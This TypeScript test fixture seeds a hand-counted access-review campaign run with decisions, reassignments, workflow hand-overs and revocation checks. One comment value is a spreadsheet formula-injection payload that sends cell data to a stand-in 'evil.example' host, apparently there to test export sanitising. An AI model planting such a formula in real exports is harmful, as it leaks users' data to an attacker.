// A finished campaign run whose report is counted by hand (test/unit/use-cases/campaign-report.test.ts
// and test/browser/campaign-report.test.ts): 3 entries, 10 items, two stages, a reassignment, every
// kind of decision, items never decided and handed to the approval workflow, applied outcomes.
//
//  E1 alice, stage 1, approver mgr (FINISHED; approved and modified items went on to stage 2, E3)
//    1 p-ledger   APPROVE mgr 07-02 10:00:00   → stage 2 (history, not counted)
//    2 p-payments MODIFY  mgr 07-02 10:00:04   → stage 2 (history, not counted)
//    3 p-wiki     REJECT  mgr 07-02 10:00:09   applied REMOVED                     REJECTED  REVOKED
//    4 p-crm      never decided: handed over; the run REJECTED, applied REMOVED   EXPIRED   REVOKED
//  E2 bob, stage 1, mgr → carol (reassigned 07-02 08:00 by the owner; FINISHED)
//    5 p-ledger   APPROVE carol 07-03 09:00:00 (one request with 6)               APPROVED  KEPT
//    6 p-payments APPROVE carol 07-03 09:00:00                                     APPROVED  KEPT
//    7 p-wiki     MODIFY  carol 07-03 09:00:30 (removes parameter project)        MODIFIED  KEPT
//    8 p-crm      never decided: handed over; the run REJECTED, outcome not applied yet
//                 (the item still says RUNNING: the report reads the run)          EXPIRED   AWAITING_WORKFLOW
//  E3 alice, stage 2, approver sec (FINISHED)
//    9 p-ledger   REJECT  sec 07-10 14:00:00   applied REMOVED                     REJECTED  REVOKED
//   10 p-payments APPROVE sec 07-10 14:00:20   (of stage 1's modification) applied MODIFIED  KEPT
//
// Read back after applying (the run's revocation records): 3 alice p-wiki ABSENT, 9 alice p-ledger
// STILL_PRESENT (the directory accepted the removal but did not make it).
//
// Counted by hand: 3 entries; 8 assignments (items 3-10); approved 2 (5, 6); rejected 2 (3, 9);
// modified 2 (7, 10); expired 2 (4, 8); pending 0; revoked 3 (3, 4, 9); kept 4 (5, 6, 7, 10);
// handed over 2 (4, 8); awaiting workflow 1 (8); changes failed 0; still present 1 (9).
import { InMemoryApprovalStore } from '../../lambdas/shared/adapters/memory/in-memory-approval-store.js';
import { InMemoryCampaignStore } from '../../lambdas/shared/adapters/memory/in-memory-campaign-store.js';
import { InMemoryDirectoryStore } from '../../lambdas/shared/adapters/memory/in-memory-directory-store.js';
import { approvalIdFor, type ApprovalPurpose } from '../../lambdas/shared/domain/approvals/model.js';
import type { Campaign, Decision, Entry, Item, Revocation } from '../../lambdas/shared/domain/model.js';
import { sampleRun } from './approval-run.js';
import { aCampaign, aUser, anEntry } from './fixtures.js';

export const REPORT_CAMPAIGN_ID = 'c-report';
export const REPORT_RUN_ID = `${REPORT_CAMPAIGN_ID}#1`;
export const E1 = 'e-alice-1';
export const E2 = 'e-bob-1';
export const E3 = 'e-alice-2';
/** A comment a spreadsheet would run as a formula. */
export const FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
export const BOB_COMMENT = 'project ended, "apollo" closed;\nno longer needed, see ticket 42';

const decision = (outcome: Decision['outcome'], decidedBy: string, decidedAt: string, extra: Partial<Decision> = {}): Decision => ({
  outcome,
  decidedBy,
  decidedAt,
  ...extra,
});

const item = (entryId: string, userId: string, privilegeId: string, extra: Partial<Item> = {}): Item => ({
  entryId,
  id: privilegeId,
  userId,
  privilegeId,
  userName: userId === 'alice' ? 'Alice Archer' : 'Bob Baker',
  privilegeName: { 'p-ledger': 'Ledger', 'p-payments': 'Payments', 'p-wiki': 'Wiki', 'p-crm': 'CRM' }[privilegeId],
  privilegeRisk: privilegeId === 'p-payments' ? 'CRITICAL' : 'HIGH',
  ...extra,
});

export interface ReportWorld {
  campaigns: InMemoryCampaignStore;
  approvals: InMemoryApprovalStore;
  directory: InMemoryDirectoryStore;
  campaign: Campaign;
}

export type SeedBatch = { entry: Entry; items: Item[] }[];

/**
 * The run above, stored in fresh in-memory stores. `campaign` overrides the campaign record (state,
 * dates); `change` may alter the entries and items before they are stored (the variants of a test).
 */
export async function seedReportCampaign(campaign: Partial<Campaign> = {}, change: (batch: SeedBatch) => SeedBatch = (b) => b): Promise<ReportWorld> {
  const campaigns = new InMemoryCampaignStore({ pageSize: 2 });
  const approvals = new InMemoryApprovalStore();
  const directory = new InMemoryDirectoryStore();
  await directory.putUsers([
    aUser({ id: 'mgr', displayName: 'Maria Manager' }),
    aUser({ id: 'carol', displayName: 'Carol Cover' }),
    aUser({ id: 'sec', displayName: 'Sam Security' }),
  ]);
  const stored = aCampaign({
    id: REPORT_CAMPAIGN_ID,
    name: 'Finance <high-risk> access',
    state: 'SUCCEEDED',
    phase: { name: 'DONE' },
    dueDate: '2026-07-15T00:00:00.000Z',
    endDate: '2026-07-15T06:00:00.000Z',
    statusExpirationDate: '2026-08-14T06:00:00.000Z',
    revocation: { rejected: 'REMOVE', modified: 'KEEP', uncertified: 'WORKFLOW' },
    ...campaign,
  });
  await campaigns.createCampaign(stored);

  const applied = (action: NonNullable<Item['applied']>['action']) => ({ action, at: '2026-07-15T06:00:00.000Z' });
  const handOver = (entryId: string, userId: string) => {
    const purpose: ApprovalPurpose = { kind: 'CAMPAIGN', campaignId: REPORT_CAMPAIGN_ID, runId: REPORT_RUN_ID, entryId, itemId: 'p-crm', reason: 'UNCERTIFIED' };
    return { purpose, id: approvalIdFor(purpose, userId, 'p-crm') };
  };
  const aliceCrm = handOver(E1, 'alice');
  const bobCrm = handOver(E2, 'bob');

  const finished = (overrides: Partial<Entry>): Entry =>
    anEntry({ campaignId: REPORT_CAMPAIGN_ID, runId: REPORT_RUN_ID, state: 'FINISHED', closedAt: '2026-07-14T00:00:00.000Z', endDate: '2026-07-15T06:00:00.000Z', ...overrides });
  const e1 = finished({
    id: E1,
    subjectId: 'alice',
    subjectName: 'Alice Archer',
    approverIds: ['mgr'],
    itemCount: 4,
    closedAt: '2026-07-02T10:00:09.000Z',
    plan: [{ approverIds: ['mgr'] }, { approverIds: ['sec'] }],
    advancedAt: '2026-07-02T11:00:00.000Z',
    nextEntryIds: [E3],
  });
  const e2 = finished({
    id: E2,
    subjectId: 'bob',
    subjectName: 'Bob Baker',
    approverIds: ['carol'],
    itemCount: 4,
    reassignments: [
      {
        from: ['mgr'],
        to: 'carol',
        by: 'u-owner',
        at: '2026-07-02T08:00:00.000Z',
        justification: 'mgr on leave until August',
        previousDueDate: '2026-07-15T00:00:00.000Z',
        dueDate: '2026-07-15T00:00:00.000Z',
      },
    ],
  });
  const e3 = finished({
    id: E3,
    subjectId: 'alice',
    subjectName: 'Alice Archer',
    stage: 2,
    approverIds: ['sec'],
    itemCount: 2,
    dueDate: '2026-07-16T11:00:00.000Z',
    closedAt: '2026-07-10T14:00:20.000Z',
  });
  const ledgerApproved = decision('APPROVE', 'mgr', '2026-07-02T10:00:00.000Z');
  const paymentsModified = decision('MODIFY', 'mgr', '2026-07-02T10:00:04.000Z', { endDate: '2026-12-31T00:00:00.000Z', comment: 'until year end' });
  const batch: SeedBatch = [
    {
      entry: e1,
      items: [
        item(E1, 'alice', 'p-ledger', { decision: ledgerApproved }),
        item(E1, 'alice', 'p-payments', { decision: paymentsModified }),
        item(E1, 'alice', 'p-wiki', { decision: decision('REJECT', 'mgr', '2026-07-02T10:00:09.000Z', { comment: FORMULA_COMMENT }), applied: applied('REMOVED') }),
        item(E1, 'alice', 'p-crm', {
          applied: applied('HANDED_OVER'),
          workflow: {
            approvalId: aliceCrm.id,
            workflowId: 'default',
            startedAt: '2026-07-15T06:00:00.000Z',
            state: 'REJECTED',
            outcomeAt: '2026-07-20T09:00:00.000Z',
            outcomeBy: 'u-owner',
            appliedAction: 'REMOVED',
          },
        }),
      ],
    },
    {
      entry: e2,
      items: [
        item(E2, 'bob', 'p-ledger', { decision: decision('APPROVE', 'carol', '2026-07-03T09:00:00.000Z') }),
        item(E2, 'bob', 'p-payments', { decision: decision('APPROVE', 'carol', '2026-07-03T09:00:00.000Z') }),
        item(E2, 'bob', 'p-wiki', {
          parameters: { project: 'apollo' },
          decision: decision('MODIFY', 'carol', '2026-07-03T09:00:30.000Z', { parameters: { project: null }, comment: BOB_COMMENT }),
          applied: applied('MODIFIED'),
        }),
        item(E2, 'bob', 'p-crm', {
          applied: applied('HANDED_OVER'),
          workflow: { approvalId: bobCrm.id, workflowId: 'default', startedAt: '2026-07-15T06:00:00.000Z', state: 'RUNNING' },
        }),
      ],
    },
    {
      entry: e3,
      items: [
        item(E3, 'alice', 'p-ledger', { priorDecisions: [ledgerApproved], decision: decision('REJECT', 'sec', '2026-07-10T14:00:00.000Z'), applied: applied('REMOVED') }),
        item(E3, 'alice', 'p-payments', { priorDecisions: [paymentsModified], decision: decision('APPROVE', 'sec', '2026-07-10T14:00:20.000Z'), applied: applied('MODIFIED') }),
      ],
    },
  ];
  await campaigns.putEntriesWithItems(change(batch));
  const removal = (entryId: string, privilegeId: string, verification: Revocation['verification']): Revocation => ({
    runId: REPORT_RUN_ID,
    campaignId: REPORT_CAMPAIGN_ID,
    userId: 'alice',
    privilegeId,
    entryId,
    itemId: privilegeId,
    reason: 'REJECTED',
    at: '2026-07-15T06:00:00.000Z',
    verification,
  });
  await campaigns.saveRevocationVerifications([
    removal(E1, 'p-wiki', { status: 'ABSENT', at: '2026-07-15T06:00:01.000Z' }),
    removal(E3, 'p-ledger', { status: 'STILL_PRESENT', at: '2026-07-15T06:00:01.000Z', since: '2026-07-15T06:00:01.000Z', nextCheckAt: '2026-07-16T06:00:01.000Z' }),
  ]);
  // Bob's CRM hand-over: decided (REJECTED) on 07-22, its outcome not applied yet, so the item still says RUNNING.
  await approvals.createApproval(
    sampleRun({
      id: bobCrm.id,
      purpose: bobCrm.purpose,
      userId: 'bob',
      privilegeId: 'p-crm',
      state: 'REJECTED',
      outcome: { result: 'REJECTED', at: '2026-07-22T10:00:00.000Z', via: 'DECISION', by: 'u-owner' },
    }),
  );
  return { campaigns, approvals, directory, campaign: stored };
}
